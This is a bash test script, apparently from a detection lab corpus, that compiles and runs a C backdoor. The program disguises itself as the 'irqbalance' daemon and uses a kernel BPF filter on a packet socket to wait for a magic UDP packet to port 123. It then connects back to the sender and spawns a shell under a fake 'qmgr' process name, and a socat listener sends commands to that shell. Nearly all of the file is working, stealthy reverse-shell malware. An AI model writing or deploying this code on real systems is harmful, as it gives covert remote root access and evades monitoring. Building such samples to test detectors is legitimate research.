#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=covert-socket,reverse-shell half=tune tool=gcc,dash far=out ready=out:4446 seconds=24 parts=dns before=yes
# A program with a daemon's name waits, with a packet socket and a filter in the kernel, for one datagram, then calls back and becomes a shell.
if [ "$1" = before ]; then
	gcc -O2 -o "$LAB/irqbalance" -x c - <<'END'
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>
/* IPv4, UDP, to port 123, that begins with "rU": nobody listens there. */
static struct sock_filter code[] = {
	{0x30, 0, 0, 9}, {0x15, 0, 6, 17}, {0xb1, 0, 0, 0}, {0x48, 0, 0, 2}, {0x15, 0, 3, 123},
	{0x48, 0, 0, 8}, {0x15, 0, 1, 0x7255}, {0x06, 0, 0, 0xffff}, {0x06, 0, 0, 0},
};
int main(void)
{
	struct sock_fprog f = {sizeof(code) / sizeof(*code), code};
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(4446)};
	unsigned char p[2000];
	int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));

	prctl(PR_SET_NAME, "irqbalance");
	if (s < 0 || setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &f, sizeof(f)) || recv(s, p, sizeof(p), 0) < 30)
		return 1;
	__builtin_memcpy(&a.sin_addr, p + 12, 4);
	if (fork())
		for (;;)
			recv(s, p, sizeof(p), 0);
	close(s);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)))
		return 1;
	for (int n = 0; n < 3; n++)
		dup2(s, n);
	return execl("/bin/sh", "qmgr -l -t fifo -u", (char *)0);
}
END
	exit
fi
if [ "$1" = out ]; then
	(sleep 5; echo -n "rU wake" >/dev/udp/10.30.0.2/123) &
	(sleep 7; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0
fi
cd "$LAB" && timeout 20 ./irqbalance
grep -q uid=0 "$LAB/heard"
